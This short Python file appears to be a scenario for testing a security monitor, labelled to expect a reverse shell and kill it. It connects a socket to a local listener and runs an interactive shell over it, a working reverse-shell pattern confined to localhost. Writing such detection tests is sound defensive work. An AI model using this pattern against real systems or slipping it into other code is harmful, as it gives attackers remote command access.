# expect: reverse_shell
# action: kill
# about: a shell given an inet socket as stdin/stdout/stderr by subprocess (inherited stdio)
import os
import socket
import subprocess
import sys

lib = os.environ["SCENARIO_LIB"]
listener = subprocess.Popen([sys.executable, f"{lib}/listener.py"], stdout=subprocess.PIPE)
port = int(listener.stdout.readline())
s = socket.create_connection(("127.0.0.1", port))
subprocess.run(["sh", "-i"], stdin=s, stdout=s, stderr=s, timeout=30)
